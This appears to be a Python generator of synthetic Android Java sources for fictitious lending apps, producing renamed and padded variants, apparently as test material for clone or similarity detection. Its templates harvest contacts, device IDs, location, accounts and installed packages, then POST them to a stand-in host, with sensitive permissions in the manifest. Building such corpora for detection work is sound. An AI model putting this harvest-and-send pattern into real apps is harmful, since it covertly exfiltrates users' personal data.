"""Writes Java sources of made-up lenders: a family is one program, a variant renames and pads it."""

# ruff: noqa: E501 - a line of Java a line
from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

PACKAGE = "com.qa00000000"
HOST = "qh00000000.example"
LABEL = "Ql00000000"
KEY = "AIzaQk" + "0" * 33
"""Stand-ins of fixed length, replaced in each clone; the letters before the digits occur nowhere
else, so a replacement of the same length keeps the order of a dex file's strings."""

_STATEMENTS = (
    'android.database.Cursor {v} = c.getContentResolver().query(android.net.Uri.parse("content://{s}"), null, null, null, null); while ({v} != null && {v}.moveToNext()) {{ sb.append({v}.getString({n})); }}',
    'try {{ o.put("{s}", {n}); }} catch (org.json.JSONException {v}) {{ android.util.Log.e("{s}", "x", {v}); }}',
    'android.telephony.TelephonyManager {v} = (android.telephony.TelephonyManager) c.getSystemService("phone"); sb.append({v}.getDeviceId());',
    'android.location.LocationManager {v} = (android.location.LocationManager) c.getSystemService("location"); sb.append({v}.getLastKnownLocation("gps").getLatitude());',
    'c.getSharedPreferences("{s}", 0).edit().putInt("{s}", {n}).commit();',
    'java.util.List<android.content.pm.PackageInfo> {v} = c.getPackageManager().getInstalledPackages({n}); for (android.content.pm.PackageInfo i{v} : {v}) sb.append(i{v}.packageName);',
    'try {{ java.net.HttpURLConnection {v} = (java.net.HttpURLConnection) new java.net.URL("https://' + HOST + '{p}").openConnection(); {v}.setRequestMethod("POST"); {v}.getOutputStream().write(sb.toString().getBytes()); {v}.getResponseCode(); }} catch (java.io.IOException e{v}) {{ sb.append({n}); }}',
    'for (int {v} = 0; {v} < {n}; {v}++) {{ sb.append(Math.abs({v} * {n})); if ({v} % 3 == 1) sb.reverse(); }}',
    'android.net.wifi.WifiManager {v} = (android.net.wifi.WifiManager) c.getSystemService("wifi"); sb.append({v}.getConnectionInfo().getBSSID());',
    'java.io.File {v} = new java.io.File(c.getFilesDir(), "{s}"); if ({v}.exists() && {v}.length() > {n}) {v}.delete();',
    'try {{ javax.crypto.Cipher {v} = javax.crypto.Cipher.getInstance("AES/CBC/PKCS5Padding"); {v}.init(1, new javax.crypto.spec.SecretKeySpec(sb.toString().getBytes(), "AES")); }} catch (java.security.GeneralSecurityException e{v}) {{ sb.setLength(0); }}',
    'android.content.Intent {v} = new android.content.Intent("{s}"); {v}.putExtra("{s}", {n}); c.sendBroadcast({v});',
    'String {v} = android.provider.Settings.Secure.getString(c.getContentResolver(), "android_id"); if ({v} != null) sb.append({v}.toLowerCase());',
    'java.util.Map<String, String> {v} = new java.util.HashMap<String, String>(); {v}.put("{s}", sb.toString()); for (String k{v} : {v}.keySet()) sb.append(k{v}.trim());',
    'android.accounts.Account[] {v} = android.accounts.AccountManager.get(c).getAccounts(); for (int i{v} = 0; i{v} < {v}.length; i{v}++) sb.append({v}[i{v}].name);',
    'switch (sb.length() % 5) {{ case 0: sb.append({n}); break; case 1: sb.insert(0, "{s}"); break; default: sb.deleteCharAt(0); }}',
    'android.os.Bundle {v} = new android.os.Bundle(); {v}.putString("{s}", android.os.Build.MODEL); {v}.putLong("{s}", System.currentTimeMillis() / {n});',
    'android.widget.TextView {v} = new android.widget.TextView(c); {v}.setText(sb); {v}.setTextSize({n}); {v}.setVisibility(sb.length() > {n} ? 0 : 8);',
    'android.app.AlarmManager {v} = (android.app.AlarmManager) c.getSystemService("alarm"); {v}.cancel(android.app.PendingIntent.getBroadcast(c, {n}, new android.content.Intent("{s}"), 0));',
    'android.graphics.Bitmap {v} = android.graphics.Bitmap.createBitmap({n}, {n}, android.graphics.Bitmap.Config.ARGB_8888); {v}.compress(android.graphics.Bitmap.CompressFormat.JPEG, {n}, new java.io.ByteArrayOutputStream()); {v}.recycle();',
)  # fmt: skip
_WORDS = [
    "loan",
    "cash",
    "rupee",
    "peso",
    "credit",
    "wallet",
    "quick",
    "easy",
    "fast",
    "money",
    "lend",
    "pay",
    "due",
    "repay",
    "borrow",
    "limit",
    "bank",
    "verify",
    "face",
    "contact",
    "upload",
    "device",
    "risk",
    "score",
    "user",
    "profile",
    "order",
    "bill",
    "coupon",
    "agent",
    "collect",
    "remind",
    "notify",
    "apply",
    "grant",
    "quota",
    "term",
    "fee",
    "rate",
    "refund",
    "photo",
    "live",
    "card",
    "idcard",
    "region",
    "city",
    "salary",
]
COMMON_PATHS = ("/api/v1/login", "/api/v1/register", "/user/info")


type Naming = Literal["readable", "short", "heap"]
"""How classes are called: in words, shortened, or shortened in one package with all libraries."""


@dataclass(frozen=True)
class Method:
    """Statements with their own literals; everything a variant may rename is left out."""

    statements: tuple[str, ...]


@dataclass(frozen=True)
class Program:
    """Classes of methods, the endpoint paths they post to, and the texts of the app."""

    classes: tuple[tuple[Method, ...], ...]
    texts: tuple[str, ...]


def program(seed: int, *, classes: int = 14, texts: bool = True) -> Program:
    """Return the program of a family or a library: the same seed gives the same one."""
    dice = random.Random(f"program {seed}")
    paths = [
        f"/{dice.choice(_WORDS)}/v{dice.randrange(1, 9)}/{dice.choice(_WORDS)}{dice.choice(_WORDS)}"
        for _ in range(4)
    ] + list(COMMON_PATHS)
    made = tuple(
        tuple(_method(dice, paths) for _ in range(dice.randrange(3, 7))) for _ in range(classes)
    )
    return Program(made, tuple(_sentence(dice) for _ in range(12)) if texts else ())


def _method(dice: random.Random, paths: list[str]) -> Method:
    found = []
    for number in range(dice.randrange(2, 8)):
        found.append(
            dice.choice(_STATEMENTS).format(
                v=f"x{number}", n=dice.randrange(2, 120), s=_word(dice), p=dice.choice(paths)
            )
        )
    return Method(tuple(found))


def _word(dice: random.Random) -> str:
    return f"{dice.choice(_WORDS)}_{dice.choice(_WORDS)}"


def _sentence(dice: random.Random) -> str:
    return " ".join(dice.choice(_WORDS) for _ in range(dice.randrange(7, 13))).capitalize() + "."


def write_variant(
    folder: Path,
    family: Program,
    libraries: list[Program],
    dice: random.Random,
    *,
    first: bool,
    naming: Naming = "readable",
) -> None:
    """Write an app folder for the build script: renamed, shuffled, padded, some methods changed."""
    source = folder / "src" / PACKAGE.replace(".", "/")
    source.mkdir(parents=True)
    classes: list[list[Method]] = [list(methods) for methods in family.classes]
    if not first:
        dice.shuffle(classes)
        for methods in classes:
            dice.shuffle(methods)
            if dice.random() < 0.25:  # padding: a method of no use
                methods.insert(dice.randrange(len(methods) + 1), _method(dice, list(COMMON_PATHS)))
            if dice.random() < 0.15:  # a later version: one method was changed
                methods[dice.randrange(len(methods))] = _method(dice, list(COMMON_PATHS))
        for _ in range(dice.randrange(3)):  # padding: a class of no use
            classes.append([_method(dice, list(COMMON_PATHS)) for _ in range(3)])
    everything = len(classes) + sum(len(library.classes) for library in libraries)
    pool = iter(_names(everything, dice, naming))
    names = [next(pool) for _ in classes]
    for name, own in zip(names, classes, strict=True):
        (source / f"{name}.java").write_text(_java(PACKAGE, name, own, dice), encoding="utf-8")
    entry = "".join(f"new {name}(); " for name in names)
    for number, library in enumerate(libraries):
        # A library that was renamed into a package of no meaning, differently in each variant.
        package = PACKAGE if naming == "heap" else f"z{dice.choice('abcdefgh')}{number}"
        folder_of = folder / "src" / package.replace(".", "/")
        folder_of.mkdir(exist_ok=True)
        renamed = [next(pool) for _ in library.classes]
        for name, members in zip(renamed, library.classes, strict=True):
            text = _java(package, name, list(members), dice)
            (folder_of / f"{name}.java").write_text(text, encoding="utf-8")
            entry += f"new {package}.{name}(); "
    (source / "Main.java").write_text(
        f"package {PACKAGE};\npublic class Main extends android.app.Activity {{\n"
        f"  public void onCreate(android.os.Bundle b) {{ super.onCreate(b); {entry}"
        f'android.util.Log.i("key", "{KEY}"); }}\n}}\n',
        encoding="utf-8",
    )
    _write_manifest(folder, dice)
    _write_texts(folder, family.texts)


def _names(count: int, dice: random.Random, naming: Naming) -> list[str]:
    letters = "abcdefghijklmnopqrstuvwxyz"
    if naming == "readable":
        parts = ("Loan", "User", "Contact", "Device", "Bill", "Risk", "Upload", "Face")
        return [
            f"{dice.choice(parts)}{dice.choice(letters).upper()}{number}" for number in range(count)
        ]
    # As renaming tools do: a, b, c, …, aa, ab.
    short = [*letters, *(f"a{letter}" for letter in letters)]
    return dice.sample(short, count)


def _java(package: str, name: str, methods: list[Method], dice: random.Random) -> str:
    lines = [f"package {package};", f"public class {name} {{"]
    for number, method in enumerate(methods):
        called = f"{dice.choice('abcdefghijk')}{number}"
        head = f"public String {called}(android.content.Context c, org.json.JSONObject o)"
        lines.append(f"  {head} {{")
        lines.append("    StringBuilder sb = new StringBuilder();")
        lines += [f"    {statement}" for statement in method.statements]
        lines += ["    return sb.toString();", "  }"]
    return "\n".join([*lines, "}", ""])


_PERMISSIONS = (
    "READ_CONTACTS", "READ_SMS", "READ_CALL_LOG", "ACCESS_FINE_LOCATION", "CAMERA",
    "READ_PHONE_STATE", "GET_ACCOUNTS", "READ_CALENDAR", "RECORD_AUDIO", "READ_EXTERNAL_STORAGE",
)  # fmt: skip


def _write_manifest(folder: Path, dice: random.Random) -> None:
    wanted = sorted(dice.sample(_PERMISSIONS, dice.randrange(2, 9)))
    lines = "".join(
        f'  <uses-permission android:name="android.permission.{name}" />\n'
        for name in (*wanted, "INTERNET")
    )
    (folder / "AndroidManifest.xml").write_text(
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<manifest xmlns:android="http://schemas.android.com/apk/res/android"\n'
        f'  package="{PACKAGE}" android:versionCode="{dice.randrange(1, 40)}"'
        f' android:versionName="1.{dice.randrange(20)}">\n'
        '  <uses-sdk android:minSdkVersion="24" android:targetSdkVersion="33" />\n'
        f"{lines}"
        '  <application android:label="@string/app_name">\n'
        f'    <activity android:name="{PACKAGE}.Main" android:exported="true"><intent-filter>\n'
        '      <action android:name="android.intent.action.MAIN" />\n'
        '      <category android:name="android.intent.category.LAUNCHER" />\n'
        "    </intent-filter></activity>\n  </application>\n</manifest>\n",
        encoding="utf-8",
    )


def _write_texts(folder: Path, texts: tuple[str, ...]) -> None:
    values = folder / "res" / "values"
    values.mkdir(parents=True)
    rows = "".join(f'  <string name="t{n}">{text}</string>\n' for n, text in enumerate(texts))
    (values / "strings.xml").write_text(
        f'<resources>\n  <string name="app_name">{LABEL}</string>\n{rows}</resources>\n',
        encoding="utf-8",
    )
